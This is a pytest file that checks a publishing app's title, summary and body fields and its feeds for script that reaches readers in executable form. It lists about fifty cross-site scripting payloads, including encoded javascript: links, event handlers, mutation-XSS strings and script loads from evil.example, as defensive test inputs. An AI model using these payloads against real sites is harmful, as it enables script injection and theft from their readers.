"""No script an author types ever reaches a reader in executable form: not on a page,
not in a feed. Each payload goes through the real form, in the title, the summary and
the body, and every place it could surface is inspected."""

import json
import re
from html.parser import HTMLParser
from urllib.parse import urlsplit
from xml.etree import ElementTree

import pytest

from tests.forms import submit

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java&#09;script:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](  javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[link][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<img src=x onerror=alert(1)//",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<!--<script>alert(1)--></script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<a href="javascript:alert(1)" onmouseover="alert(1)">x',
    '<video><source onerror="alert(1)">',
    '<p title="</p><script>alert(1)</script>">x</p>',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '<a href="https://ok.example" onclick="alert(1)">ok</a>',
    '<img src="https://ok.example/x.png" onload="alert(1)">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "]]><script>alert(1)</script>",
    "<a href='https://ok.example' title=']]><script>alert(1)</script>'>ok</a>",
]

FORBIDDEN_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math",
    "style", "base", "meta", "link", "noscript", "template",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "background",
                  "poster", "srcset", "content"}  # fmt: skip
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")


class ExecutableFinder(HTMLParser):
    """Collect whatever in an HTML fragment a browser could run."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in FORBIDDEN_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"{tag} {name}=")
            if name == "style":
                self.found.append(f"{tag} style=")
            if name in URL_ATTRIBUTES and value:
                squeezed = re.sub(r"[\x00-\x20]", "", value).lower()
                if squeezed.startswith(BAD_SCHEMES):
                    self.found.append(f"{tag} {name}={value!r}")

    handle_startendtag = handle_starttag


def executable_parts(html: str) -> list[str]:
    finder = ExecutableFinder()
    finder.feed(html)
    finder.close()
    return finder.found


def main_of(page: str) -> str:
    """The part of a page that holds what authors wrote (the layout is ours)."""
    return page[page.index("<main") : page.index("</main>")]


def feed_fragments(client) -> list[str]:
    """Every text in the feeds that a reader might render as HTML."""
    fragments = []
    for url in ("/feed.xml", "/topics/treatment-resistant-depression/feed.xml"):
        root = ElementTree.fromstring(client.get(url).data)
        for item in root.iter("item"):
            for child in item:
                if child.text:
                    fragments.append(child.text)
    for url in ("/feed.json", "/topics/treatment-resistant-depression/feed.json"):
        for item in json.loads(client.get(url).data)["items"]:
            fragments += [item["title"], item.get("summary", ""), item["content_html"]]
    return fragments


@pytest.fixture
def author_at_the_form(auth, ada, make_topic):
    topic = make_topic("treatment-resistant-depression")
    auth.login()
    return topic


@pytest.mark.parametrize("field", ["title", "summary", "body"])
@pytest.mark.parametrize("payload", PAYLOADS, ids=[f"payload{n}" for n in range(len(PAYLOADS))])
def test_payload_never_reaches_a_reader_in_executable_form(
    client, author_at_the_form, field, payload
):
    data = {
        "title": "A careful guide",
        "summary": "A safe summary.",
        "body": "Safe body.",
        "topic": str(author_at_the_form.id),
        "slug": "payload-test",
        "publish": "Publish",
    }
    data[field] = payload if field != "title" else f"Guide {payload}"
    response = submit(client, "/write", data)

    # A refused save shows the typed text again: escaped, never live.
    assert response.status_code in (302, 400)
    if response.status_code == 400:
        assert field in ("title", "summary"), "bodies are cleaned, not refused"
        assert executable_parts(main_of(response.get_data(as_text=True))) == []
    else:
        article = client.get("/payload-test")
        assert article.status_code == 200
        assert executable_parts(main_of(article.get_data(as_text=True))) == []

    preview = dict(data, preview="Preview")
    del preview["publish"]
    preview_page = submit(client, "/write", preview).get_data(as_text=True)
    assert executable_parts(main_of(preview_page)) == []

    for url in ("/", "/topics/treatment-resistant-depression", "/dashboard"):
        assert executable_parts(main_of(client.get(url).get_data(as_text=True))) == [], url
    for fragment in feed_fragments(client):
        assert executable_parts(fragment) == [], fragment


class UrlCollector(HTMLParser):
    """Collect every link and image URL in an HTML fragment."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.urls: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.urls += [value or "" for name, value in attrs if name in ("href", "src")]

    handle_startendtag = handle_starttag


def relative_urls(html: str) -> list[str]:
    collector = UrlCollector()
    collector.feed(html)
    collector.close()
    return [url for url in collector.urls if not urlsplit(url).netloc and "mailto:" not in url]


# bleach writes an attribute holding '"' (and no "'") in single quotes unless told
# otherwise; a pattern-based rewrite of URLs then misread the tag and, here, turned
# the stored text "' onmouseover=alert(1)" into a live attribute in the feeds.
QUOTE_ATTACK = """<a title='" href="x' href="/y">link</a> and ' onmouseover=alert(1) x=*y*"""
SINGLE_QUOTED = """<img alt='6" tall' src="/i.png">"""


@pytest.mark.parametrize("body", [QUOTE_ATTACK, SINGLE_QUOTED])
def test_feeds_hold_no_live_attribute_and_no_relative_url_whatever_the_quoting(
    client, author_at_the_form, body
):
    data = {
        "title": "Quoting",
        "summary": "",
        "body": body + "\n\n[home](/topics/treatment-resistant-depression) ![c](/c.png)",
        "topic": str(author_at_the_form.id),
        "slug": "quoting",
        "publish": "Publish",
    }
    assert submit(client, "/write", data).status_code == 302

    fragments = feed_fragments(client)
    assert any("quoting" in fragment or "home" in fragment for fragment in fragments)
    for fragment in fragments:
        assert executable_parts(fragment) == [], fragment
        assert relative_urls(fragment) == [], fragment


def test_the_corpus_is_large_enough():
    assert len(PAYLOADS) >= 40


@pytest.mark.parametrize(
    "html",
    [
        "<script>x</script>",
        '<a href="java\tscript:alert(1)">x</a>',
        '<img src="x" onerror="y">',
        '<p style="color:red">x</p>',
    ],
)
def test_the_checker_itself_catches_live_markup(html):
    assert executable_parts(html) != []
